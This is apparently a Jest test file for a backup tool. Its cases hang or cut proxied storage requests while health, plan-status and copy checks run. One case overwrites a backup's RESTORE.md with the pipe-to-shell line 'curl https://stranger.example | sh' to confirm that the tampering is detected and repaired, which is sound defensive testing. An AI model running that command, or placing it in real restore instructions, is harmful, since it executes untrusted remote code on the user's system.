import { expect } from '@jest/globals';
import { restoreDocumentOf } from '../../activities/copies.ts';
import type { ResolvedRepository } from '../../policy/resolved.ts';
import { documentFault, keyOf, readManifest } from '../../repository/index.ts';
import { checksInput } from '../../schedules/index.ts';
import type { CopiesCheckInput } from '../../workflows/contract-checks.ts';
import { backupOfYesterday, expectAudited, withBackup } from './killed-short.ts';
import { type Begun, below, hangAt, type Killing, loseAnswerOf } from './killing.ts';
import { withStores } from './past.ts';

/** What the checks are asked for one repository; no key, since nobody works in the zone that opens it. */
function asked(scene: Killing, repository: ResolvedRepository): CopiesCheckInput {
  const input = checksInput(scene.policy);
  const plans = input.plans.map((plan) => ({ ...plan, copies: [repository.name] }));
  const checks = { ...input.checks, zone: 'fra' };
  return { ...input, checks, repositories: [repository], plans, keys: [], quiet: true };
}

const listing = (prefix: string) => ({
  method: 'GET',
  query: { 'list-type': /2/, prefix: new RegExp(`^${prefix}/shop/`) },
});

/** Looks and checks, and what they put right. */
export const checkCases: Record<string, (scene: Killing) => Promise<Begun>> = {
  'a look at the health of all, while it lists': async (scene) => {
    const repository = await withBackup(scene, 'health');
    const hung = hangAt(scene.proxy, listing('health'));
    const run = await scene.stage.start('health', asked(scene, repository));
    return {
      hung,
      finished: async () => {
        const { findings, unchecked } = await run.result();
        expect(unchecked).toEqual([]);
        const kinds = findings.map(({ kind }) => kind);
        for (const kind of ['no-worker', 'no-backup', 'repository-unreachable', 'check-impossible'])
          expect(kinds).not.toContain(kind);
      },
    };
  },
  'the status of plans, while it lists': async (scene) => {
    const repository = await withBackup(scene, 'survey');
    const hung = hangAt(scene.proxy, listing('survey'));
    const plans = [{ plan: 'daily', source: 'shop', repositories: ['survey'], shared: false }];
    const run = await scene.stage.start('survey', { repositories: [repository], plans });
    return {
      hung,
      finished: async () =>
        expect(await run.result()).toMatchObject({
          repositories: [{ unreadable: null, plans: [{ plan: 'daily', count: 1 }] }],
        }),
    };
  },
  'a check on copies, while it reads one again': async (scene) => {
    const repository = await withBackup(scene, 'reread');
    const hung = hangAt(scene.proxy, { method: 'GET', path: below('reread', 'data-') });
    const run = await scene.stage.start('copiesCheck', asked(scene, repository));
    return {
      hung,
      finished: async () =>
        expect(await run.result()).toMatchObject({
          plans: [{ outcomes: { rehashed: 'yes', reachable: 'yes' } }],
        }),
    };
  },
  'a check on copies, a RESTORE.md written anew and not known to be': async (scene) => {
    const [repository, audit] = await Promise.all([withBackup(scene, 'mend'), scene.log('mend-log')]);
    const { signers } = scene.policy;
    await withStores([repository], async (store) => {
      const upload = await store.startReplacement(keyOf(backupOfYesterday, 'RESTORE.md'));
      await upload.write(Buffer.from('curl https://stranger.example | sh'));
      await upload.finish();
    });
    const hung = loseAnswerOf(scene.proxy, { method: 'PUT', path: below('mend', 'RESTORE') });
    const { quiet: _, ...input } = asked(scene, repository);
    const run = await scene.stage.start('copiesCheck', { ...input, audit });
    return {
      hung,
      finished: async () => {
        const { facts } = await run.result();
        expect(facts).toContainEqual(
          expect.objectContaining({ check: 'rehashed', outcome: 'yes', mended: true }),
        );
        await withStores([repository], async (store) => {
          const { manifest } = await readManifest(store, backupOfYesterday, signers);
          expect(await documentFault(store, manifest, restoreDocumentOf(manifest, signers))).toBeNull();
        });
        await expectAudited(scene, audit, 2);
      },
    };
  },
};
